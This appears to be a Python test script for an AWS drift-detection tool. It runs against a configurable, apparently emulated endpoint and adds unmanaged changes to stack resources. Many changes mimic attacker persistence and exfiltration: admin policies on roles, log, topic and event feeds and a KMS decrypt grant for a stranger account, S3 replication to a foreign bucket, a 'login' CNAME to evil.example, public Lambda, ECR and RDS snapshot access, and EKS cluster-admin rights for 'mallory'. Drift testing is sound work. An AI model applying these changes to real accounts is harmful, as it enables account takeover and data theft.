"""An AWS client that is not ours: attaches things beside what the stacks made. Usage: add-beside.py ENDPOINT PREFIX

Prints what the cloud took: for each addition the words of it that a report must have."""

import json
import sys

import botocore.exceptions
import botocore.session

ENDPOINT, PREFIX = sys.argv[1:3]
SESSION = botocore.session.get_session()
STRANGER = "999999999999"
done, refused = [], []


def client(service, region="eu-central-1"):
    return SESSION.create_client(
        service,
        region_name=region,
        endpoint_url=ENDPOINT,
        aws_access_key_id="000000000000",
        aws_secret_access_key="foreign",
    )


def add(what, name, call, **arguments):
    try:
        answer = call(**arguments)
        done.append([what, name])
        return answer
    except (botocore.exceptions.ClientError, botocore.exceptions.ParamValidationError) as error:
        refused.append([what, str(error)[:200]])


def first(items):
    return next(iter(items), None)


def policy(action, resource, principal):
    statement = {"Effect": "Allow", "Action": action, "Resource": resource, "Principal": principal}
    return json.dumps({"Version": "2012-10-17", "Statement": [{"Sid": "Added", **statement}]})


ADMINISTRATOR = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})


def identities():
    iam = client("iam")
    roles = [each["RoleName"] for each in iam.list_roles()["Roles"] if each["RoleName"].startswith(PREFIX)]
    if not roles:
        return
    role = sorted(roles)[0]
    add("inline policy", "convenient", iam.put_role_policy, RoleName=role, PolicyName="convenient", PolicyDocument=ADMINISTRATOR)
    add("inline policy", "third", iam.put_role_policy, RoleName=role, PolicyName="third", PolicyDocument=ADMINISTRATOR)
    add("inline policy", "second", iam.put_role_policy, RoleName=role, PolicyName="second", PolicyDocument=ADMINISTRATOR)
    managed = "arn:aws:iam::aws:policy/AdministratorAccess"
    add("attached policy", "AdministratorAccess", iam.attach_role_policy, RoleName=role, PolicyArn=managed)
    iam.create_instance_profile(InstanceProfileName="by-hand")
    add("instance profile", "by-hand", iam.add_role_to_instance_profile, InstanceProfileName="by-hand", RoleName=role)
    ours = first(each["Arn"] for each in iam.list_policies(Scope="Local")["Policies"] if each["PolicyName"].startswith(PREFIX))
    if ours:
        iam.create_user(UserName="ann")
        add("holder of the policy", "user ann", iam.attach_user_policy, UserName="ann", PolicyArn=ours)
    provider = first(each["Arn"] for each in iam.list_open_id_connect_providers()["OpenIDConnectProviderList"])
    if provider:
        trust = {"Effect": "Allow", "Action": "sts:AssumeRoleWithWebIdentity", "Principal": {"Federated": provider}}
        document = json.dumps({"Version": "2012-10-17", "Statement": [trust]})
        add("role that trusts the provider", "mallory", iam.create_role, RoleName="mallory", AssumeRolePolicyDocument=document)
        # The pipelines of another environment share the provider.
        tags = [{"Key": "backlot:platform", "Value": "drift"}, {"Key": "backlot:environment", "Value": "other"}]
        iam.create_role(RoleName="drift-other-plan", AssumeRolePolicyDocument=document, Tags=tags)


def messaging():
    sns, sqs, events, functions = client("sns"), client("sqs"), client("events"), client("lambda")
    topic = first(each["TopicArn"] for each in sns.list_topics()["Topics"] if PREFIX in each["TopicArn"])
    if topic:
        add("subscription", "mallory@example.com", sns.subscribe, TopicArn=topic, Protocol="email", Endpoint="mallory@example.com")
        add("subscription", STRANGER, sns.subscribe, TopicArn=topic, Protocol="sqs", Endpoint=f"arn:aws:sqs:eu-central-1:{STRANGER}:tap")
    rule = first(each["Name"] for each in events.list_rules()["Rules"] if each["Name"].startswith(PREFIX))
    if rule:
        target = {"Id": "tap", "Arn": f"arn:aws:sqs:eu-central-1:{STRANGER}:tap"}
        add("target", "tap", events.put_targets, Rule=rule, Targets=[target])
    function = first(each["FunctionName"] for each in functions.list_functions()["Functions"] if each["FunctionName"].startswith(PREFIX))
    if function:
        public = {"FunctionName": function, "StatementId": "anybody", "Action": "lambda:InvokeFunction", "Principal": "*"}
        add("permission", "anybody", functions.add_permission, **public)
        add("function URL", "http", functions.create_function_url_config, FunctionName=function, AuthType="NONE")
        add("function alias", "live", functions.create_alias, FunctionName=function, Name="live", FunctionVersion="$LATEST")


def buckets():
    s3 = client("s3")
    names = [each["Name"] for each in s3.list_buckets()["Buckets"] if each["Name"].startswith(PREFIX)]
    for name in names:
        if "-state-" in name or "-logs" in name or "-uploads-" in name:
            continue
        configuration = {"IndexDocument": {"Suffix": "index.html"}}
        add("website configuration", name, s3.put_bucket_website, Bucket=name, WebsiteConfiguration=configuration)
        origins = {"CORSRules": [{"AllowedMethods": ["GET"], "AllowedOrigins": ["*"]}]}
        add("CORS configuration", name, s3.put_bucket_cors, Bucket=name, CORSConfiguration=origins)
        rule = {"ID": "copy", "Status": "Enabled", "Priority": 1, "Filter": {"Prefix": ""}, "DeleteMarkerReplication": {"Status": "Disabled"}}
        rule["Destination"] = {"Bucket": "arn:aws:s3:::elsewhere"}
        copy = {"Role": f"arn:aws:iam::{STRANGER}:role/copy", "Rules": [rule]}
        add("replication configuration", name, s3.put_bucket_replication, Bucket=name, ReplicationConfiguration=copy)
        fast, payer = {"Status": "Enabled"}, {"Payer": "Requester"}
        add("transfer acceleration", name, s3.put_bucket_accelerate_configuration, Bucket=name, AccelerateConfiguration=fast)
        add("requester pays", name, s3.put_bucket_request_payment, Bucket=name, RequestPaymentConfiguration=payer)
        return


def keys_and_secrets():
    kms, secrets = client("kms"), client("secretsmanager")
    alias = first(each for each in kms.list_aliases()["Aliases"] if each["AliasName"].startswith(f"alias/{PREFIX}"))
    if alias:
        grantee = f"arn:aws:iam::{STRANGER}:root"
        add("grant", "borrowed", kms.create_grant, KeyId=alias["TargetKeyId"], GranteePrincipal=grantee, Operations=["Decrypt"], Name="borrowed")
        add("alias", "alias/other-name", kms.create_alias, AliasName="alias/other-name", TargetKeyId=alias["TargetKeyId"])
    found = secrets.list_secrets()["SecretList"]
    for secret in [each["ARN"] for each in found if PREFIX.replace("-", "/") in each["Name"]]:
        document = policy("secretsmanager:GetSecretValue", "*", {"AWS": f"arn:aws:iam::{STRANGER}:root"})
        try:
            has = "ResourcePolicy" in secrets.get_resource_policy(SecretId=secret)
        except botocore.exceptions.ClientError:
            has = False
        if not has:
            add("policy", secret, secrets.put_resource_policy, SecretId=secret, ResourcePolicy=document)
            break


def network():
    ec2 = client("ec2")
    tagged = [{"Name": "tag:backlot:environment", "Values": ["*"]}]
    vpc = first(each["VpcId"] for each in ec2.describe_vpcs(Filters=tagged)["Vpcs"])
    if not vpc:
        return
    inside = [{"Name": "vpc-id", "Values": [vpc]}]
    other = ec2.create_vpc(CidrBlock="172.20.0.0/16")["Vpc"]["VpcId"]
    peering = add("peering connection", "pcx-", ec2.create_vpc_peering_connection, VpcId=vpc, PeerVpcId=other)
    tables = ec2.describe_route_tables(Filters=inside)["RouteTables"]
    table = first(each["RouteTableId"] for each in tables if not any(one.get("Main") for one in each["Associations"]))
    gateway = ec2.create_internet_gateway()["InternetGateway"]["InternetGatewayId"]
    add("Internet gateway", gateway, ec2.attach_internet_gateway, InternetGatewayId=gateway, VpcId=vpc)
    if peering:
        connection = peering["VpcPeeringConnection"]["VpcPeeringConnectionId"]
        route = {"DestinationCidrBlock": "172.20.0.0/16", "VpcPeeringConnectionId": connection}
        add("route", "172.20.0.0/16", ec2.create_route, RouteTableId=table, **route)
    add("subnet", "subnet-", ec2.create_subnet, VpcId=vpc, CidrBlock=ec2.describe_vpcs(VpcIds=[vpc])["Vpcs"][0]["CidrBlock"].replace(".0.0/16", ".255.0/28"))
    vpn = ec2.create_vpn_gateway(Type="ipsec.1")["VpnGateway"]["VpnGatewayId"]
    add("VPN gateway", vpn, ec2.attach_vpn_gateway, VpnGatewayId=vpn, VpcId=vpc)
    log = {"ResourceType": "VPC", "TrafficType": "ALL", "LogDestinationType": "s3", "LogDestination": "arn:aws:s3:::elsewhere"}
    add("flow log", "fl-", ec2.create_flow_logs, ResourceIds=[vpc], **log)
    endpoint = {"VpcId": vpc, "ServiceName": "com.amazonaws.eu-central-1.dynamodb", "VpcEndpointType": "Gateway"}
    add("VPC endpoint", "vpce-", ec2.create_vpc_endpoint, **endpoint)
    group = ec2.create_security_group(GroupName="by-hand", Description="by hand", VpcId=vpc)["GroupId"]
    done.append(["security group", group])
    subnet = first(each["SubnetId"] for each in ec2.describe_subnets(Filters=inside)["Subnets"])
    add("network interface", "eni-", ec2.create_network_interface, SubnetId=subnet, Groups=[group], Description="by hand")
    acl = first(each for each in ec2.describe_network_acls(Filters=inside)["NetworkAcls"] if each["IsDefault"])
    if acl:
        entry = {"RuleNumber": 90, "Protocol": "6", "RuleAction": "deny", "Egress": False, "CidrBlock": "10.0.0.0/8"}
        add("network ACL entry", "90 deny", ec2.create_network_acl_entry, NetworkAclId=acl["NetworkAclId"], **entry)


def names():
    route53 = client("route53")
    found = first(route53.list_hosted_zones()["HostedZones"])
    if found:
        zone, name = found["Id"], f"login.{found['Name']}".rstrip(".")
        record = {"Name": name, "Type": "CNAME", "TTL": 60, "ResourceRecords": [{"Value": "evil.example"}]}
        batch = {"Changes": [{"Action": "CREATE", "ResourceRecordSet": record}]}
        add("record", name, route53.change_resource_record_sets, HostedZoneId=zone, ChangeBatch=batch)


def watching():
    logs, ecr, backup = client("logs"), client("ecr"), client("backup")
    groups = [each["logGroupName"] for each in logs.describe_log_groups()["logGroups"]]
    group = first(each for each in groups if PREFIX in each)
    if group:
        tap = {"filterPattern": "", "destinationArn": f"arn:aws:logs:eu-central-1:{STRANGER}:destination:tap"}
        add("subscription filter", "tap", logs.put_subscription_filter, logGroupName=group, filterName="tap", **tap)
        metric = {"metricName": "lines", "metricNamespace": "hand", "metricValue": "1"}
        add("metric filter", "count", logs.put_metric_filter, logGroupName=group, filterName="count", filterPattern="", metricTransformations=[metric])
    repositories = [each["repositoryName"] for each in ecr.describe_repositories()["repositories"]]
    for repository in [each for each in repositories if each.startswith(PREFIX)]:
        try:
            ecr.get_repository_policy(repositoryName=repository)
        except botocore.exceptions.ClientError:
            document = policy("ecr:BatchGetImage", "*", "*")
            add("policy", repository, ecr.set_repository_policy, repositoryName=repository, policyText=document)
            break
    for plan in [each["BackupPlanId"] for each in backup.list_backup_plans().get("BackupPlansList", [])]:
        selection = {"SelectionName": "more", "IamRoleArn": "arn:aws:iam::000000000000:role/x", "Resources": ["*"]}
        add("selection", "more", backup.create_backup_selection, BackupPlanId=plan, BackupSelection=selection)
        break


def clusters():
    eks = client("eks")
    name = first(eks.list_clusters()["clusters"])
    if not name:
        return
    principal = "arn:aws:iam::000000000000:role/mallory"
    add("access entry", principal, eks.create_access_entry, clusterName=name, principalArn=principal)
    administrator = "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy"
    eks.associate_access_policy(clusterName=name, principalArn=principal, policyArn=administrator, accessScope={"type": "cluster"})
    entries = [each for each in eks.list_access_entries(clusterName=name)["accessEntries"] if each != principal]
    view = "arn:aws:eks::aws:cluster-access-policy/AmazonEKSAdminViewPolicy"
    if entries:
        add("access policy", "AmazonEKSAdminViewPolicy", eks.associate_access_policy, clusterName=name, principalArn=entries[0], policyArn=view, accessScope={"type": "cluster"})
    pods = {"namespace": "default", "serviceAccount": "hand", "roleArn": principal}
    add("pod identity association", "default/hand", eks.create_pod_identity_association, clusterName=name, **pods)
    add("add-on", "adot", eks.create_addon, clusterName=name, addonName="adot")


def databases():
    rds = client("rds")
    database = first(each["DBInstanceIdentifier"] for each in rds.describe_db_instances()["DBInstances"])
    if not database:
        return
    rds.create_db_snapshot(DBSnapshotIdentifier="by-hand", DBInstanceIdentifier=database)
    arn = "arn:aws:iam::000000000000:role/by-hand"
    subnets = [each["SubnetId"] for each in client("ec2").describe_subnets()["Subnets"]][:2]
    login = [{"AuthScheme": "SECRETS", "SecretArn": "arn:aws:secretsmanager:eu-central-1:000000000000:secret:by-hand"}]
    proxy = {"EngineFamily": "POSTGRESQL", "Auth": login, "RoleArn": arn, "VpcSubnetIds": subnets}
    if add("proxy of the database", "by-hand", rds.create_db_proxy, DBProxyName="by-hand", **proxy):
        rds.register_db_proxy_targets(DBProxyName="by-hand", DBInstanceIdentifiers=[database])
    add("shared snapshot", "by-hand", rds.modify_db_snapshot_attribute, DBSnapshotIdentifier="by-hand", AttributeName="restore", ValuesToAdd=["all"])


for group in (identities, messaging, buckets, keys_and_secrets, network, names, watching, clusters, databases):
    try:
        group()
    except botocore.exceptions.ClientError as error:
        refused.append([group.__name__, str(error)[:200]])
print(json.dumps({"added": done, "refused": refused}))
